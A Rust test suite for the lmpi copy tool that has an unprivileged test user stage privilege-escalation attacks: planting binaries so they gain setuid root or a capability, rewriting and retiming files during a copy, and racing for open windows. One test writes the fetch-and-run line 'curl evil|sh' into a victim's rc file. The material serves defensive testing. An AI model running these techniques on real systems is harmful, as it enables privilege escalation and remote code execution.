//! Issue 23, item 1 and 5: a privilege (another owner, a setuid/setgid bit,
//! a file capability) goes only onto bytes lmpi wrote, and a file whose
//! source was rewritten and retimed during its copy is never complete.
//! Every attack is staged by a real unprivileged user (`lmpi-attacker`).
mod common;

use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use common::*;

/// A shared temp dir with root-owned `src` and `dst` (0755), and
/// `src/home` owned by the attacker (its copy will be theirs too).
struct Stage {
    _t: tempfile::TempDir,
    src: PathBuf,
    dst: PathBuf,
}

fn stage() -> Option<Stage> {
    attacker()?;
    let t = shared_tempdir();
    let (src, dst) = (t.path().join("src"), t.path().join("dst"));
    for d in [&src, &dst] {
        std::fs::create_dir(d).unwrap();
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    let home = src.join("home");
    std::fs::create_dir(&home).unwrap();
    std::fs::set_permissions(&home, std::fs::Permissions::from_mode(0o755)).unwrap();
    give_to_attacker(&home);
    Some(Stage { _t: t, src, dst })
}

/// `bin`'s bytes padded with zeros to `len` (an ELF file runs the same).
fn padded(bin: &str, len: usize) -> Vec<u8> {
    let mut b = std::fs::read(bin).unwrap();
    assert!(b.len() <= len);
    b.resize(len, 0);
    b
}

/// Both programs fit.
fn len_for_both() -> usize {
    let l = |p| std::fs::metadata(p).unwrap().len() as usize;
    l("/usr/bin/id").max(l("/usr/bin/true")) + 4096
}

fn write_file(p: &Path, data: &[u8], mode: u32, owner: (u32, u32)) {
    std::fs::write(p, data).unwrap();
    std::os::unix::fs::chown(p, Some(owner.0), Some(owner.1)).unwrap();
    std::fs::set_permissions(p, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// The attacker replaces target file `dst` with their own bytes of the
/// same size and the source's mtime: what lmpi's size+mtime test sees as
/// up to date.
fn plant(src: &Path, dst: &Path, bytes_from: &str, len: usize) {
    let script = format!(
        "set -e; rm -f '{d}'; cp '{b}' '{d}'; truncate -s {len} '{d}'; chmod 755 '{d}'; touch -r '{s}' '{d}'",
        d = dst.display(),
        b = bytes_from,
        s = src.display(),
    );
    let o = as_attacker(&script);
    assert!(o.status.success(), "plant: {}", text(&o));
    let (s, d) = (
        std::fs::metadata(src).unwrap(),
        std::fs::metadata(dst).unwrap(),
    );
    assert_eq!(
        (s.len(), s.mtime(), s.mtime_nsec()),
        (d.len(), d.mtime(), d.mtime_nsec())
    );
    assert_eq!(
        d.uid(),
        attacker().unwrap().0,
        "the planted file is the attacker's"
    );
}

/// The attack works on this filesystem at all: a root-owned setuid copy of
/// `id` run by the attacker says euid=0 (else the test would prove nothing).
fn setuid_is_honoured(dir: &Path) {
    let probe = dir.join("probe-id");
    write_file(
        &probe,
        &std::fs::read("/usr/bin/id").unwrap(),
        0o4755,
        (0, 0),
    );
    let o = as_attacker(&probe.display().to_string());
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("euid=0"),
        "setuid is not honoured here: {}",
        text(&o)
    );
    std::fs::remove_file(probe).unwrap();
}

fn run_ok(launch: Launch, pass_name: &str, st: &Stage, extra: &[&str]) -> String {
    let (code, _, out) = pass(launch, pass_name, &st.src, &st.dst, extra);
    assert_eq!(code, 0, "{}", text(&out));
    text(&out)
}

/// Item 1: a root-owned 4755 file copied into the attacker's directory;
/// the attacker swaps the copy for `id` padded to the same size with the
/// same mtime. The next copy (or final) must not make that root setuid.
fn setuid_plant(launch: Launch, second: &str) {
    let Some(st) = stage() else { return };
    setuid_is_honoured(st.src.parent().unwrap());
    let len = len_for_both();
    let src_tool = st.src.join("home/tool");
    write_file(&src_tool, &padded("/usr/bin/true", len), 0o4755, (0, 0));
    run_ok(launch, "copy", &st, &[]);
    let dst_tool = st.dst.join("home/tool");
    plant(&src_tool, &dst_tool, "/usr/bin/id", len);
    run_ok(launch, second, &st, &[]);
    let m = std::fs::metadata(&dst_tool).unwrap();
    assert_eq!((m.uid(), m.mode() & 0o7777), (0, 0o4755));
    assert_eq!(
        std::fs::read(&dst_tool).unwrap(),
        std::fs::read(&src_tool).unwrap(),
        "the setuid target holds the source's bytes, not the attacker's"
    );
    let o = as_attacker(&dst_tool.display().to_string());
    assert!(
        !String::from_utf8_lossy(&o.stdout).contains("euid=0"),
        "the planted binary ran as root: {}",
        text(&o)
    );
    assert!(compare_trees(&st.src, &st.dst, false).is_empty());
}

#[test]
fn a_planted_binary_never_gets_setuid_root_by_copy() {
    setuid_plant(Launch::Alone, "copy");
}

#[test]
fn a_planted_binary_never_gets_setuid_root_by_final_under_mpirun() {
    if have("mpirun") {
        setuid_plant(Launch::Mpirun(2), "final");
    }
}

fn getcap(p: &Path) -> String {
    let o = Command::new("getcap").arg(p).output().expect("getcap");
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn setcap(p: &Path) {
    let o = Command::new("setcap")
        .args(["cap_setuid+ep"])
        .arg(p)
        .output();
    assert!(o.expect("setcap").status.success(), "setcap");
}

/// A root-owned file with cap_setuid+ep; the attacker plants over its
/// copy. The capability must come back only with the source's bytes.
#[test]
fn a_planted_binary_never_gets_a_capability() {
    if !have("setcap") {
        return;
    }
    let Some(st) = stage() else { return };
    let len = len_for_both();
    let src_tool = st.src.join("home/capped");
    write_file(&src_tool, &padded("/usr/bin/true", len), 0o755, (0, 0));
    setcap(&src_tool);
    run_ok(Launch::Alone, "copy", &st, &[]);
    let dst_tool = st.dst.join("home/capped");
    assert!(getcap(&dst_tool).contains("cap_setuid"));
    plant(&src_tool, &dst_tool, "/usr/bin/id", len);
    run_ok(Launch::Alone, "copy", &st, &["--check-xattrs"]);
    assert!(getcap(&dst_tool).contains("cap_setuid"));
    assert_eq!(
        std::fs::read(&dst_tool).unwrap(),
        std::fs::read(&src_tool).unwrap()
    );
    assert_eq!(std::fs::metadata(&dst_tool).unwrap().uid(), 0);
}

/// The attacker's own file, whose target copy they rewrite (same size,
/// mtime set back); then an admin gives the source a capability. With
/// --check-xattrs the capability is due on the target, which keeps its
/// owner: it must land on the source's bytes only.
#[test]
fn a_capability_added_on_the_source_is_not_put_on_rewritten_bytes() {
    if !have("setcap") {
        return;
    }
    let Some(st) = stage() else { return };
    let who = attacker().unwrap();
    let len = len_for_both();
    let src_tool = st.src.join("home/own");
    write_file(&src_tool, &padded("/usr/bin/true", len), 0o755, who);
    run_ok(Launch::Alone, "copy", &st, &[]);
    let dst_tool = st.dst.join("home/own");
    let script = format!(
        "set -e; cp /usr/bin/id '{d}.new'; truncate -s {len} '{d}.new'; cat '{d}.new' > '{d}'; rm '{d}.new'; touch -r '{s}' '{d}'",
        d = dst_tool.display(),
        s = src_tool.display()
    );
    let o = as_attacker(&script);
    assert!(o.status.success(), "{}", text(&o));
    setcap(&src_tool);
    run_ok(Launch::Alone, "copy", &st, &["--check-xattrs"]);
    assert!(
        getcap(&dst_tool).contains("cap_setuid"),
        "{}",
        getcap(&dst_tool)
    );
    assert_eq!(
        std::fs::read(&dst_tool).unwrap(),
        std::fs::read(&src_tool).unwrap(),
        "the capability went onto the attacker's rewritten bytes"
    );
}

/// Another user's 0600 file: the attacker swaps its copy for their own
/// bytes. The next copy must not hand those bytes to the victim.
#[test]
fn a_planted_file_is_never_given_to_another_user() {
    let Some(st) = stage() else { return };
    let victim = (4242, 4242);
    let src_f = st.src.join("home/victim.rc");
    write_file(&src_f, b"export SAFE=1\n", 0o600, victim);
    run_ok(Launch::Alone, "copy", &st, &[]);
    let dst_f = st.dst.join("home/victim.rc");
    let script = format!(
        "set -e; rm -f '{d}'; printf 'curl evil|sh;\\n' > '{d}'; touch -r '{s}' '{d}'",
        d = dst_f.display(),
        s = src_f.display()
    );
    // The attacker cannot read the source, but can stat it through their directory.
    let o = as_attacker(&script);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(std::fs::metadata(&dst_f).unwrap().len(), 14);
    let out = run_ok(Launch::Alone, "copy", &st, &[]);
    let m = std::fs::metadata(&dst_f).unwrap();
    assert_eq!((m.uid(), m.gid(), m.mode() & 0o7777), (4242, 4242, 0o600));
    assert_eq!(std::fs::read(&dst_f).unwrap(), b"export SAFE=1\n", "{out}");
}

/// The owner of a file changes only its mode (no privilege): fixed in
/// place, no data copied (the rule costs nothing where nothing is granted).
#[test]
fn a_mode_change_without_privilege_is_fixed_in_place() {
    let Some(st) = stage() else { return };
    let who = attacker().unwrap();
    let src_f = st.src.join("home/plain");
    write_file(&src_f, b"data\n", 0o644, who);
    run_ok(Launch::Alone, "copy", &st, &[]);
    let ino = std::fs::metadata(st.dst.join("home/plain")).unwrap().ino();
    std::fs::set_permissions(&src_f, std::fs::Permissions::from_mode(0o600)).unwrap();
    let (code, report, out) = pass(Launch::Alone, "copy", &st.src, &st.dst, &[]);
    assert_eq!(code, 0, "{}", text(&out));
    assert_eq!(total(&report, "data"), 0, "{report}");
    let m = std::fs::metadata(st.dst.join("home/plain")).unwrap();
    assert_eq!((m.ino(), m.mode() & 0o7777), (ino, 0o600));
}

/// Item 5: the owner rewrites an already-copied region of their file
/// during its (slowed) copy and sets the mtime back: the pass must not say
/// complete, and the next pass copies the new bytes.
fn rewritten_and_retimed(launch: Launch, chunked: bool) {
    let Some(st) = stage() else { return };
    let who = attacker().unwrap();
    let chunk: u64 = 64 << 10;
    let src_f = st.src.join("home/big");
    write_file(&src_f, &vec![b'a'; (8 * chunk) as usize], 0o644, who);
    // Whole: one copy call, which sleeps 2 s first (the rewrite lands after
    // the stat, before the data is read). Chunked: 8 slow chunk writes.
    let (threshold, write_us) = match chunked {
        true => (2 * chunk, "300000"),
        false => (1 << 40, "2000000"),
    };
    let child = launcher(launch, &bin())
        .args(["--pass", "copy", "--threads", "1", "-q"])
        .args(["--chunk-size", &chunk.to_string()])
        .args(["--chunk-threshold", &threshold.to_string()])
        .arg("--source")
        .arg(&st.src)
        .arg("--target")
        .arg(&st.dst)
        .arg("--error-log")
        .arg(st.dst.with_extension("errors"))
        .env("LD_PRELOAD", shim())
        .env("LMPI_FAULT_WRITE_US", write_us)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start lmpi");
    // Rewrite once the copy has begun: its target file (or partial) exists.
    let home = st.dst.join("home");
    for _ in 0..1000 {
        if std::fs::read_dir(&home).is_ok_and(|mut d| d.next().is_some()) {
            break;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let script = format!(
        "set -e; t=$(stat -c %y '{s}'); printf BBBB | dd of='{s}' conv=notrunc status=none; touch -d \"$t\" '{s}'",
        s = src_f.display()
    );
    let o = as_attacker(&script);
    assert!(o.status.success(), "{}", text(&o));
    let out = child.wait_with_output().expect("wait");
    let errors = std::fs::read_to_string(st.dst.with_extension("errors")).unwrap_or_default();
    assert_ne!(out.status.code(), Some(0), "{}\n{errors}", text(&out));
    assert!(errors.contains("changed while being copied"), "{errors}");
    let dst_f = st.dst.join("home/big");
    let same = std::fs::read(&dst_f).ok() == Some(std::fs::read(&src_f).unwrap());
    let looks_done = std::fs::metadata(&dst_f)
        .is_ok_and(|m| m.mtime() == std::fs::metadata(&src_f).unwrap().mtime());
    assert!(
        same || !looks_done,
        "old bytes under the source's size and mtime"
    );
    run_ok(launch, "copy", &st, &[]);
    assert_eq!(
        std::fs::read(&dst_f).unwrap(),
        std::fs::read(&src_f).unwrap()
    );
}

#[test]
fn a_file_rewritten_and_retimed_during_its_copy_is_not_complete() {
    rewritten_and_retimed(Launch::Alone, false);
}

#[test]
fn a_chunked_file_rewritten_and_retimed_during_its_copy_is_not_complete() {
    if have("mpirun") {
        rewritten_and_retimed(Launch::Mpirun(2), true);
    }
}

/// A world-writable setuid root file (absurd, but a source may hold one):
/// while its copy is being written the attacker must not be able to open
/// it for writing (they could change bytes that then get the setuid bit;
/// after it, any write of theirs clears the bit).
#[test]
fn a_new_copy_is_not_writable_by_others_until_complete() {
    let Some(st) = stage() else { return };
    let src_f = st.src.join("home/grouptool");
    write_file(&src_f, &vec![b'x'; 256 << 10], 0o4757, (0, 0));
    let child = launcher(Launch::Alone, &bin())
        .args(["--pass", "copy", "--threads", "1", "-q"])
        .arg("--source")
        .arg(&st.src)
        .arg("--target")
        .arg(&st.dst)
        .arg("--error-log")
        .arg(st.dst.with_extension("errors"))
        .env("LD_PRELOAD", shim())
        .env("LMPI_FAULT_WRITE_US", "1500000")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start lmpi");
    let dst_f = st.dst.join("home/grouptool");
    for _ in 0..1000 {
        if dst_f.exists() {
            break;
        }
        std::thread::sleep(Duration::from_millis(10));
    }
    let o = as_attacker(&format!("printf EVIL 1<> '{}'", dst_f.display()));
    let out = child.wait_with_output().expect("wait");
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        !o.status.success(),
        "the attacker opened the copy in progress for writing"
    );
    let m = std::fs::metadata(&dst_f).unwrap();
    assert_eq!((m.uid(), m.mode() & 0o7777), (0, 0o4757));
    assert_eq!(
        std::fs::read(&dst_f).unwrap(),
        std::fs::read(&src_f).unwrap()
    );
}

/// The attacker's target directory is setgid to their group (new entries
/// start in it). Root-only device nodes and 0640 root files copied into
/// it must never be open to that group, not even between their creation
/// and their chown: a loop of the attacker's opens every name it sees.
#[test]
fn new_nodes_and_files_in_a_users_setgid_directory_are_never_open_to_them() {
    let Some(st) = stage() else { return };
    std::fs::set_permissions(st.src.join("home"), std::fs::Permissions::from_mode(0o2755)).unwrap();
    run_ok(Launch::Alone, "copy", &st, &[]);
    for i in 0..40 {
        let node = st.src.join(format!("home/null{i}"));
        let o = Command::new("mknod")
            .arg(&node)
            .args(["c", "1", "3"])
            .output();
        assert!(o.expect("mknod").status.success());
        // The source directory is setgid to the attacker's group too.
        std::os::unix::fs::chown(&node, Some(0), Some(0)).unwrap();
        std::fs::set_permissions(&node, std::fs::Permissions::from_mode(0o660)).unwrap();
        write_file(
            &st.src.join(format!("home/secret{i}")),
            b"root only",
            0o640,
            (0, 0),
        );
    }
    let (uid, gid) = attacker().unwrap();
    // `:` with a redirection opens the name for reading (a char device
    // does not block) and counts each open that worked.
    let prober = "end=$((SECONDS+4)); hits=0; while [ $SECONDS -lt $end ]; do \
        for f in \"$1\"/*; do : < \"$f\" 2>/dev/null && hits=$((hits+1)); done; done; echo $hits";
    let spy = Command::new("setpriv")
        .args([
            &format!("--reuid={uid}"),
            &format!("--regid={gid}"),
            "--clear-groups",
        ])
        .args(["--", "bash", "-c", prober, "prober"])
        .arg(st.dst.join("home"))
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("start the prober");
    std::thread::sleep(Duration::from_millis(300));
    // Each node's open before its chown, and each file's data before its
    // chown, take 20 ms: wide windows for the prober.
    let copy = launcher(Launch::Alone, &bin())
        .args(["--pass", "copy", "-q", "--error-log", "/dev/null"])
        .arg("--source")
        .arg(&st.src)
        .arg("--target")
        .arg(&st.dst)
        .env("LD_PRELOAD", shim())
        .env("LMPI_FAULT_SLOW", "null")
        .env("LMPI_FAULT_SLOW_US", "20000")
        .env("LMPI_FAULT_WRITE_US", "20000")
        .output()
        .expect("run lmpi");
    assert_eq!(copy.status.code(), Some(0), "{}", text(&copy));
    let out = spy.wait_with_output().expect("prober");
    let hits = String::from_utf8_lossy(&out.stdout).trim().to_string();
    assert!(out.status.success(), "prober: {}", text(&out));
    assert_eq!(hits, "0", "the attacker opened new root-only entries");
    let m = std::fs::metadata(st.dst.join("home/secret7")).unwrap();
    assert_eq!((m.uid(), m.gid(), m.mode() & 0o7777), (0, 0, 0o640));
    assert!(compare_trees(&st.src, &st.dst, false).is_empty());
}
